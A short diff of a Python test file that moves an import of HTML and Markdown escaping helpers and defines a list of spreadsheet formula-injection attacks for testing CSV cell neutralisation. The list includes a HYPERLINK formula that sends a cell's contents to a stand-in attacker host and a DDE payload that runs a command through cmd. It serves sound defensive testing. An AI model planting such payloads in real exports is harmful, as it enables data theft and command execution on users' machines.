@@ -6,7 +6,7 @@ import markdown_it
 import pandas as pd
 import pytest
 
-from workbench.app.safe_text import escape_html, escape_markdown
+from workbench.security.safe_text import escape_html, escape_markdown
 from workbench.catalog.people_csv import neutralise_cell, people_csv_text, write_people_csv
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
